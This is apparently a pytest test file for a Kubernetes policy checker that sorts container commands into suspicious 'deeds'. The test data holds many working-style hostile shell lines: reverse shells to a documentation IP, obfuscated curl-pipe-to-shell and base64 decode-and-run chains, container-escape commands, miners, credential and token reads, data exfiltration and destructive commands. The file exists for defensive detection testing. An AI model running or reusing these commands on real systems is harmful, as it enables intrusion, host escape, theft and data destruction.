"""What commands do, seen from outside: a container goes in, deeds come out."""

import base64
from collections.abc import Callable, Mapping
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from policies import command, resource, shell
from policies.command import Deed, deeds, lines
from policies.path import render
from policies.pod import Pod

SUSPICIOUS = {Deed.REVERSE_SHELL, Deed.DOWNLOAD_AND_RUN, Deed.DECODE_AND_RUN, Deed.ENTER_HOST, Deed.MINE}


def pod(*containers: dict[str, Any], **spec: Any) -> Pod:
    body = {"containers": list(containers), **spec}
    return resource.read({"apiVersion": "v1", "kind": "Pod", "spec": body}).pods[0].pod


def seen(container: dict[str, Any], **spec: Any) -> set[Deed]:
    return {found.deed for found in deeds(pod(container, **spec).containers[0])}


def script(text: str) -> set[Deed]:
    return seen({"command": ["/bin/sh", "-c", text]})


def base64_of(text: str, encoding: str = "utf-8") -> str:
    return base64.b64encode(text.encode(encoding)).decode()


SYSTEM = 'import os;os.system("curl x|sh")'
CALL_HOME = "bash -i >& /dev/tcp/203.0.113.9/4444 0>&1"
SCRIPTS: dict[Deed, list[str]] = {
    Deed.REVERSE_SHELL: [
        CALL_HOME,
        "exec 5<>/dev/tcp/203.0.113.9/44; cat <&5 | while read line; do $line 2>&5 >&5; done",
        "0<&196;exec 196<>/dev/tcp/203.0.113.9/44; sh <&196 >&196 2>&196",
        "sh -i 5<> /dev/tcp/203.0.113.9/99 0<&5 1>&5 2>&5",
        "/bin/bash -l > /dev/tcp/203.0.113.9/4242 0<&1 2>&1",
        "sh -i >& /dev/udp/203.0.113.9/4242 0>&1",
        "{ sh -i; } >& /dev/tcp/203.0.113.9/1",
        'exec 3<>/dev/tcp/203.0.113.9/1; while read l; do eval "$l"; done <&3 >&3',
        "exec >/dev/tcp/203.0.113.9/1 0<&1",
        "nc 203.0.113.9 4444 -e sh",
        "nc <HOST> <PORT> -e sh",
        "ncat --sh-exec /bin/bash 203.0.113.9 44",
        "ncat --exec=/bin/bash 203.0.113.9 44",
        "nc -c bash 203.0.113.9 4242",
        "busybox nc 203.0.113.9 4242 -e /bin/sh",
        "mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.9 4242 >/tmp/f",
        "mkfifo f;cat f|sh -i 2>&1|telnet 203.0.113.9 80 > f",
        "sh -i < s 2>&1 | openssl s_client -quiet -connect 203.0.113.9:4242 > s",
        "telnet 203.0.113.9 44 0<f | sh 1>f",
        "nc 203.0.113.9 44 | (cd /; sh) | nc 203.0.113.9 45",
        "socat TCP:203.0.113.9:4242 EXEC:'/bin/bash -li',pty",
        "python -c 'import socket,os,pty;s=socket.socket();s.connect(1);os.dup2(s.fileno(),0);pty.spawn(\"sh\")'",
        'perl -e \'use Socket;socket(S,PF_INET,SOCK_STREAM,6);connect(S,$a);open(STDIN,">&S");exec("/bin/sh -i");\'',
        'ruby -rsocket -e\'c=TCPSocket.new("x",1);while(cmd=c.gets);IO.popen(cmd,"r"){|io|c.print io.read}end\'',
        'php -r \'$sock=fsockopen("203.0.113.9",4242);exec("/bin/sh -i <&3 >&3 2>&3");\'',
        "awk 'BEGIN {s = \"/inet/tcp/0/203.0.113.9/42\"; while(42) { s |& getline c; system(c) }}' /dev/null",
        f"echo {base64_of(CALL_HOME)} | base64 -d | sh",
        f'bash -c "$(echo {base64_of(CALL_HOME)} | base64 --decode)"',
        f"{{echo,{base64_of(CALL_HOME)}}}|{{base64,-d}}|{{bash,-i}}",
    ],
    Deed.DOWNLOAD_AND_RUN: [
        "curl -fsSL https://example.com/i.sh | sh",
        "curl -s http://example.com/x.sh|bash -s -- --arg v",
        "wget -qO- http://example.com | sudo bash -",
        "wget -q -O - http://example.com | /bin/sh",
        "wget --output-document=- http://example.com | sh -e",
        "curl -o - http://example.com | sh /dev/stdin",
        "curl http://example.com | (cd /tmp; sh)",
        'sh -c "$(curl -fsSL https://example.com)"',
        "bash <(curl -s https://example.com)",
        "bash < <(curl -s https://example.com)",
        "python3 <(curl -s https://example.com)",
        'bash -c "`wget -O- http://example.com`"',
        'eval "$(curl -s http://example.com)"',
        ". <(curl -s example.com)",
        "source <(curl -s example.com)",
        "X=$(curl -s example.com); eval $X",
        'X=$(curl -s example.com); eval "$X$X"',
        "curl --output /tmp/i.sh example.com < /x; sh /tmp/i.sh",
        'sh -c "set -e; $(curl -s example.com)"',
        'python -c "$(curl -s example.com)"',
        "$(curl -s example.com)",
        "curl example.com | python3",
        "curl example.com | python3 - --a",
        "curl example.com | tee /tmp/a | perl",
        "cu''rl example.com | ba''sh",
        "curl${IFS}-s${IFS}example.com|sh",
        "{curl,-s,example.com}|sh",
        "a=cu;b=rl;$a$b example.com|sh",
        "$'\\143url' example.com|sh",
        "/usr/bin/curl -k \\\n -s http://example.com \\\n | /usr/bin/env bash",
        "curl -O http://example.com/i.sh && bash i.sh",
        "curl http://example.com/i.sh > /tmp/i.sh; . /tmp/i.sh",
        "wget -P /tmp http://example.com/i.sh?v=1; sh -x /tmp/i.sh",
        "find / -exec sh -c 'curl example.com | sh' ;",
        "su - app -c x; sudo -u app sh -c 'curl example.com | sh'",
        "bash <<END\ncurl example.com | sh\nEND",
        "echo 'curl example.com | sh' | sh",
        f"echo {base64_of('curl example.com | sh # padded')} | base64 -d | sh",
        f"python3 -c \"import base64;exec(base64.b64decode('{base64_of(SYSTEM)}'))\"",
        f"echo {base64_of(SYSTEM)} | base64 -d | python3",
        "echo 'import os;os.system(\"curl x | sh\")' | python3",
        "if true; then for i in 1; do while a; do curl example.com | sh; done; done; fi",
        "f() { curl example.com | sh; }; f",
        "cmd /c 'powershell IEX(New-Object Net.WebClient).DownloadString(1)'",
    ],
    Deed.DECODE_AND_RUN: [
        "echo Y3VybCB4IHwgc2g= | base64 -d | sh",
        "base64 -d <<< Y3VybA== | sh",
        "cat /x | openssl base64 -d | bash",
        "xxd -r -p /x | sh",
        "gzip -dc /x | sh",
        "zcat /x | sh",
        "printf '\\x69\\x64' | sh",
        'eval "$(echo aWQ= | base64 -d)"',
        "python3 -c 'import base64;exec(base64.b64decode(\"cHJpbnQoMSkgIA==\"))'",
    ],
    Deed.ENTER_HOST: [
        "nsenter --target 1 --mount --uts --ipc --net --pid -- bash",
        "/usr/bin/nsenter -t1 -m sh",
        "nsenter -a -t 1 bash",
        "nsenter --mount=/hostproc/1/ns/mnt -- /bin/bash",
        "nsenter -mt1 sh",
        "chroot /host /bin/bash",
        "sudo chroot /rootfs bash -c id",
        "cat /proc/1/root/etc/shadow",
        "python3 /x.py /proc/1/root",
        "sh /x.sh /proc/1/root",
        "mount /dev/sda1 /mnt",
        "debugfs /dev/vda1",
        "mknod /tmp/d b 8 0",
        "mount -t cgroup -o rdma cgroup /tmp/c; echo /cmd > /tmp/c/release_agent",
        "echo '|/tmp/x %p' > /proc/sys/kernel/core_pattern",
        "sysctl -w 'kernel.core_pattern=|/tmp/x'",
        "echo '* * * * * root x' >> /host/etc/cron.d/x",
        "echo key | tee -a /host/root/.ssh/authorized_keys",
        "cp x /hostfs/etc/ld.so.preload",
        "unshare -UrmC bash",
        "docker run --privileged alpine",
        "docker run -v /:/host alpine",
        "ctr run --mount type=bind,src=/,dst=/h alpine x",
    ],
    Deed.MINE: [
        "./xmrig -o pool:3333",
        "app --url=stratum+tcp://x:1",
        "cd /tmp && nohup ./minerd -a x &",
        "curl -sL https://example.com/xmrig.tgz | tar xz",
    ],
    Deed.ADD_USER: ["echo a:b | chpasswd"],
    Deed.ATTACK_TOOL: ["python kube-hunter.py", "./linpeas.sh; peirates"],
    Deed.CLEAR_TRACES: ["history -c", "rm -rf /var/log/x", "unset HISTFILE"],
    Deed.DESTROY: ["rm -rf /", "dd if=/x of=/dev/sda", "mkfs /dev/sdb", "echo b > /proc/sysrq-trigger"],
    Deed.DOWNLOAD: ["curl -sSL https://example.com | tar xz"],
    Deed.EDIT_FIREWALL: ["iptables -F", "ip route add default via 192.0.2.1"],
    Deed.EXHAUST: [":(){ :|:& };:", "stress --cpu 4", "tail /dev/zero"],
    Deed.INSTALL_PACKAGES: ["apk add curl", "apt-get -y install nmap", "python3 -m pip install x"],
    Deed.KUBECTL: ["kubectl get pods"],
    Deed.LISTEN: ["nc -lnvp 4444", "ncat --listen 44"],
    Deed.LOAD_MODULE: ["modprobe x"],
    Deed.MOUNT: ["mount -t nfs a:/b /c"],
    Deed.PERSIST: ["crontab /x", "echo x >> /etc/profile"],
    Deed.READ_METADATA: ["curl http://169.254.169.254/latest/meta-data/"],
    Deed.READ_SECRETS: [
        "cat /etc/shadow",
        "kubectl get secrets -A",
        "curl -k https://10.0.0.1/api/v1/namespaces/a/secrets",
        "curl -k https://10.0.0.1/api/v1/secrets",
    ],
    Deed.READ_TOKEN: ["cat /var/run/secrets/kubernetes.io/serviceaccount/token"],
    Deed.RUN_DOWNLOADED: ["curl -Lo /tmp/x http://example.com/x; chmod +x /tmp/x; /tmp/x"],
    Deed.SCAN_NETWORK: ["nmap -sS 10.0.0.0/8", "nc -z 10.0.0.1 1-1024"],
    Deed.SEND: [
        "cat /x | nc 203.0.113.9 44",
        "curl -d @/etc/passwd http://example.com",
        "wget --post-file=/x example.com",
    ],
    Deed.SERVE_SHELL: ["/usr/sbin/sshd -D"],
    Deed.SET_KERNEL: ["sysctl -w net.core.somaxconn=1", "echo core > /proc/sys/kernel/core_pattern"],
    Deed.SET_UID_BIT: ["chmod u+s /bin/sh", "chmod 4755 /x"],
    Deed.SHELL: ["true"],
    Deed.SLEEP_FOREVER: [
        "sleep infinity",
        "while true; do sleep 30; done",
        "tail -f /dev/null",
        "sleep 1h",
        "sleep 3650d",
    ],
    Deed.SNIFF_NETWORK: ["tcpdump -i any"],
    Deed.SUDO: ["sudo id", "doas id"],
    Deed.TALK_TO_RUNTIME: ["docker ps", "curl --unix-socket /var/run/docker.sock http://x/info"],
    Deed.WAIT: [
        "install-driver; sleep infinity",
        "python x.py && tail -f /dev/null",
        "work; while true; do sleep 30; done",
        "work; for i in a b; do while true; do sleep 60; done; done",
        "while true; do sleep 60; done; work",
    ],
}


@pytest.mark.parametrize(("deed", "text"), [(deed, text) for deed, texts in SCRIPTS.items() for text in texts])
def test_scripts_do(deed: Deed, text: str) -> None:
    assert deed in script(text)


def test_every_deed_is_shown() -> None:
    assert SCRIPTS.keys() == set(Deed)


@pytest.mark.parametrize(
    "text",
    [
        "",
        "until nc -z db 5432; do sleep 1; done",
        "curl -sSL https://example.com/y.tgz | tar xz -C /usr/local",
        "curl -sf http://localhost:8080/health",
        "wget -q http://example.com/y -O /tmp/y | sh",
        "curl -o x example.com | sh",
        "curl -O example.com/x | sh",
        "curl --version | sh",
        "curl example.com | sh --version",
        "curl -s http://example.com | jq -r .a | grep b",
        "exec 3<>/dev/tcp/127.0.0.1/8080; echo -e 'GET / HTTP/1.1' >&3; cat <&3 | grep UP",
        "timeout 2 bash -c '</dev/tcp/$1/$2'",
        "echo > /dev/tcp/localhost/9001",
        "exec 3>/dev/tcp/localhost/1; echo a >&4",
        "eval $(ssh-agent)",
        "eval",
        "base64 -d /x > /y",
        "echo aWQ= | base64 | sh",
        "sh /scripts/run.sh",
        "bash",
        "sh -c",
        "curl example.com | python -m json.tool",
        "curl example.com | python3 -c 'import json,sys;print(json.load(sys.stdin))'",
        "curl -s example.com | perl -ne print",
        "python -c 'import socket;s=socket.create_connection((\"db\",5432))'",
        "python -c 'print(1)'",
        'IP=$(curl -s http://example.com); exec bash -c "start --ip $IP"',
        "kubectl get pods | xargs -n1 kubectl delete pod",
        "cat /etc/x | sh /y.sh",
        "unshare -n ping x",
        "ls | while read f; do curl -T $f http://example.com; done",
        "set -e; . /env.sh; exec java $JAVA_OPTS -jar /a.jar",
        "echo ruok | nc 127.0.0.1 2181 | grep imok",
        "echo 'mysql -u root' | sh",
        "echo plain | base64 -d | cat",
        '[ "$(curl -s -o /dev/null http://x)" = 200 ]',
        "cat <<EOF | kubectl apply -f -\na: curl | sh\nEOF",
        "# curl example.com | sh\nls",
        "echo 'run curl example.com | sh'",
        "cat /proc/1/cmdline",
        "nsenter --net=/var/run/netns/x ip a",
        "chroot /var/www /server",
        "mount --bind /a /b; mknod /dev/null c 1 3; debugfs -V",
        "docker run alpine; docker ps",
        "socat - EXEC:/health.py; socat TCP-LISTEN:80,fork TCP:db:80; socat a exec:",
        "nc -c host 80; nc host 80 -k",
        "openssl version | openssl s_client",
        "echo x > /etc/cron.d/y",
        "awk '{print $1}' /x",
        "su - app",
        "chmod 0755 /x; rm -f /x; rm -r /tmp/x; dd of=/x; history; crontab -l; crontab; ip addr; kubectl get pod",
        "python /app.py; python -m app; node /a.js",
        "ncat -z host 80; pip list; apk update",
        "gzip -c /x | sh -c cat",
        "printf hello | sh",
        'echo "$(date)" | cat',
    ],
)
def test_ordinary_scripts_are_not_suspicious(text: str) -> None:
    assert script(text) & SUSPICIOUS == set()


@pytest.mark.parametrize(
    ("texts", "expected"),
    [
        (["sleep", "3600"], {Deed.SLEEP_FOREVER}),
        (["sleep", "5"], set()),
        (["sleep", "5.5s"], set()),
        (["sleep", "x"], set()),
        (["sleep"], set()),
        (["/bin/sh"], set()),
        (["sh", "-c", "--", "while true; do sleep 5; done;"], {Deed.SHELL, Deed.SLEEP_FOREVER}),
        (["sh", "-c", "work; sleep infinity"], {Deed.SHELL, Deed.WAIT}),
        (["sh", "-c", "python x.py; sleep infinity"], {Deed.SHELL, Deed.WAIT}),
        (["sh", "-c", "sh x.sh; sleep infinity"], {Deed.SHELL, Deed.WAIT}),
        (["sh", "-c", "while true; do work; sleep 30; done"], {Deed.SHELL}),
        (["sh", "-c", "work; until nc -z db 5432; do sleep 1; done"], {Deed.SHELL}),
        (["sh", "-c", "while true; do sleep 5; (work); done"], {Deed.SHELL}),
        (["sh", "-c", "work; sleep 5"], {Deed.SHELL}),
        (["sleep 1d"], {Deed.SLEEP_FOREVER}),
        (['"/bin/sh"', '"-c"', '"sleep infinity"'], {Deed.SHELL}),
        (["nc", "-e", "/bin/sh", "203.0.113.9", "4444"], {Deed.REVERSE_SHELL}),
        (["bash", "-euo", "pipefail", "-c", "curl x | sh"], {Deed.SHELL, Deed.DOWNLOAD, Deed.DOWNLOAD_AND_RUN}),
        (["timeout", "-k", "5", "30", "sh", "-c", "xmrig"], {Deed.SHELL, Deed.MINE}),
        (["env", "-u", "X", "A=b", "--", "nohup", "xmrig"], {Deed.MINE}),
        (["A=b"], set()),
        (["gosu", "app", "flock", "-w", "5", "/lock", "nice", "-n", "5", "xmrig"], {Deed.MINE}),
        (["sudo"] * 30, {Deed.SUDO}),
        (["bash", "--rcfile", "/x", "-c", "xmrig"], {Deed.SHELL, Deed.MINE}),
        (["bash", "--", "/x.sh"], set()),
        (["bash", "--norc", "--"], set()),
        (["python3.11", "-c", "exec(__import__('base64').b64decode('x'))"], {Deed.DECODE_AND_RUN}),
        (["node", "--eval", "require('child_process').exec('nc -e sh 203.0.113.9 1')"], {Deed.REVERSE_SHELL}),
        (["powershell", "-nop", "-enc", base64_of("IEX (New-Object Net.WebClient)", "utf-16-le")], set()),
        (
            ["powershell", "-c", "iex x", "-enc", base64_of("stratum+tcp://x:1", "utf-16-le")],
            {Deed.DECODE_AND_RUN, Deed.MINE},
        ),
        (["python3", "-c'import base64;exec(base64.b64decode(x))'"], {Deed.DECODE_AND_RUN}),
        (["python3", "-c", "exec(b64decode('////////////////////'))"], {Deed.DECODE_AND_RUN}),
        (["python3", "-c", "exec(b64decode('aWQ7aWQ7aWQ7aWQ7a'))"], {Deed.DECODE_AND_RUN}),
        (["nsenter"], set()),
        (["wget"], set()),
    ],
)
def test_words_do(texts: list[str], expected: set[Deed]) -> None:
    assert seen({"command": texts}) == expected


def test_arguments_alone_may_be_those_of_a_shell() -> None:
    assert Deed.MINE in seen({"args": ["-c", "xmrig"]})
    assert Deed.MINE in seen({"args": ["xmrig -a && true"]})
    assert seen({"args": ["-x", "-y=curl x | sh"]}) == set()


def test_variables_of_the_container_are_known() -> None:
    env = [{"name": "RUN", "value": "xmrig -x"}, {"name": "NONE"}, {"value": "x"}, None]
    assert Deed.MINE in seen({"command": ["sh", "-c", "$(RUN)"], "env": env})
    assert Deed.MINE in seen({"command": ["sh", "-c", "$RUN"], "env": env})
    assert Deed.MINE in seen({"command": ["sh", "-c", "$$RUN $(OTHER)"], "env": env})
    assert seen({"command": ["echo", "$(NONE) $$(RUN)"], "env": env}) == set()


def test_where_the_root_of_the_host_is_mounted_is_known() -> None:
    volumes = [{"name": "root", "hostPath": {"path": "/"}}, {"name": "tmp", "emptyDir": {}}]
    mounts = [{"name": "root", "mountPath": "/mnt/x/"}, {"name": "tmp", "mountPath": "/y"}, {"name": "root"}, None]
    for text, expected in {
        "chroot /mnt/x sh": True,
        "echo x > /mnt/x/etc/crontab": True,
        "chroot /y sh": False,
        "echo x > /y/etc/crontab": False,
    }.items():
        found = seen({"command": ["sh", "-c", text], "volumeMounts": mounts}, volumes=volumes)
        assert (Deed.ENTER_HOST in found) is expected, text
    assert seen({"command": ["chroot", "/y"]}, volumes=[{"name": "tmp"}]) == set()


def test_each_deed_is_seen_in_its_field() -> None:
    container = pod(
        {
            "command": ["sh", None, "-c"],
            "args": ["sudo xmrig"],
            "livenessProbe": {"exec": {"command": ["xmrig"]}},
            "readinessProbe": {"httpGet": {"port": 1}},
            "startupProbe": {"exec": {"command": [None]}},
            "lifecycle": {"preStop": {"exec": {"command": ["sh", "-c", "sleep infinity"]}}},
        }
    ).containers[0]
    assert [(found.deed, render(found.path), found.words) for found in deeds(container)] == [
        (Deed.SHELL, "spec.containers[0].args[0]", "sh"),
        (Deed.SUDO, "spec.containers[0].args[0]", "sudo"),
        (Deed.MINE, "spec.containers[0].args[0]", "xmrig"),
        (Deed.MINE, "spec.containers[0].livenessProbe.exec.command[0]", "xmrig"),
        (Deed.SHELL, "spec.containers[0].lifecycle.preStop.exec.command[2]", "sh"),
    ]


def test_what_was_read_is_kept() -> None:
    container = pod({"command": ["xmrig"]}).containers[0]
    assert deeds(container) is deeds(container)


def test_without_commands_there_is_nothing() -> None:
    container = pod({"name": "web"}).containers[0]
    assert deeds(container) == ()
    assert list(lines(container)) == []
    assert list(lines(pod({"command": [], "lifecycle": {}}).containers[0])) == []


def test_only_so_much_is_read() -> None:
    padding = "a" * command.MAX_CONTAINER
    assert deeds(pod({"command": ["sh", "-c", f"{padding}; xmrig"]}).containers[0]) != ()
    assert seen({"command": ["sh", "-c", f": {padding}; xmrig"]}) == {Deed.SHELL}
    assert seen({"command": ["echo", padding, "xmrig"]}) == set()
    env = [{"name": "A", "value": padding}]
    assert seen({"command": ["sh", "-c", "$(A)" * 9_000], "env": env}) == {Deed.SHELL}


@pytest.mark.parametrize(
    "text",
    [
        "a|" * 10_000,
        "a|sh|" * 6_000,
        "curl a|sh;" * 3_000,
        "x=a;" + "x=$x$x;" * 4_000,
        "eval " * 6_000,
        "eval $RUN;" * 3_000,
        "$(" * 16_000,
        "`a`" * 10_000,
        "python -c 'system(\"a b\")';" * 1_200,
        "python -c 'eval(base64)" + " aWQ7aWQ7aWQ7aWQ7aWQ7" * 1_000 + "'",
        "bash -c " + "'bash -c " * 3_000,
    ],
    ids=lambda text: text[:12],
)
def test_hostile_scripts_end(text: str) -> None:
    deeds(pod({"command": ["sh", "-c", text], "env": [{"name": "RUN", "value": "eval $RUN; eval $RUN"}]}).containers[0])


def test_code_inside_code_ends() -> None:
    code = "x"
    for _ in range(12):
        code = f"exec(b64decode('{base64_of(code + ' ' * 12)}'))"
    assert Deed.DECODE_AND_RUN in seen({"command": ["python", "-c", code]})


WORDS = st.sampled_from(
    [
        "sh",
        "-c",
        "bash",
        "curl",
        "-o",
        "|",
        "sudo",
        "env",
        "python",
        "-e",
        "nc",
        "",
        "$(A)",
        "a|sh",
        "eval $A",
        "--",
        "x=",
        "awk",
    ]
)


def test_variables_that_name_each_other_end_with_the_pod_s_share(monkeypatch: pytest.MonkeyPatch) -> None:
    read: list[int] = []
    parse = shell.parse

    def counting(text: str, variables: Mapping[str, str]) -> shell.Script:
        read.append(len(text))
        return parse(text, variables)

    monkeypatch.setattr(shell, "parse", counting)
    text = "eval $A eval $A eval $A bash"
    container = {"command": ["sh", "-c", text], "env": [{"name": "A", "value": text}]}
    own = [{"command": ["sh", "-c", f"{text} # {number}"], "env": container["env"]} for number in range(200)]
    crowd = pod(*[{**each, "name": f"c{number}"} for number, each in enumerate(own)])
    for each in crowd.containers:
        deeds(each)
    assert len(read) >= 200
    assert sum(read) <= 2 * command.MAX_POD


@settings(deadline=None)
@given(st.lists(WORDS, max_size=12), st.lists(WORDS, max_size=12).map(" ".join))
def test_nothing_makes_it_fail(words: list[str], text: str) -> None:
    env = [{"name": "A", "value": text}]
    for container in (
        {"command": words, "env": env},
        {"args": words, "env": env},
        {"command": ["sh", "-c", text], "env": env},
    ):
        deeds(pod(container).containers[0])


class TestHowMuchIsRead:
    """What stands at a limit is seen, and what stands one over it is not."""

    def test_the_limits(self) -> None:
        assert (command.MAX_CONTAINER, command.MAX_POD, shell.MAX_EXPANSION) == (32_768, 131_072, 65_536)

    def test_characters_of_a_container(self) -> None:
        for longer, found in ((0, True), (1, False)):
            before = len("sh") + len("-c") + len(": ; xmrig")
            text = f": {'a' * (command.MAX_CONTAINER - before + longer)}; xmrig"
            assert (Deed.MINE in script_of(text)) is found

    @pytest.mark.parametrize(
        ("text", "most"),
        [
            (
                lambda many: "true;" * (many - 1) + "xmrig",
                4_998,
            ),  # of 5,000 the shell itself is one, and the last is not looked at
            (lambda many: "curl x | " + "cat | " * (many - 1) + "sh", 100),
            (lambda many: "curl x | (" + "true; " * (many - 1) + "sh)", 50),
            (lambda many: 'python -c "system(' + "'a b'" * (many - 1) + "'curl x | sh')\"", 50),
            (lambda many: "eval " * (many - 1) + "xmrig", 8),
            (lambda many: "( " * many + "xmrig" + " )" * many, 19),  # of 20 the script itself is one
        ],
        ids=["commands", "stages", "commands-of-a-group", "texts-of-a-program", "code-in-code", "groups-in-groups"],
    )
    def test_of_a_script(self, text: Callable[[int], str], most: int) -> None:
        assert not SUSPICIOUS.isdisjoint(script_of(text(most)))
        assert SUSPICIOUS.isdisjoint(script_of(text(most + 1)))


def script_of(text: str) -> set[Deed]:
    return seen({"command": ["sh", "-c", text]})
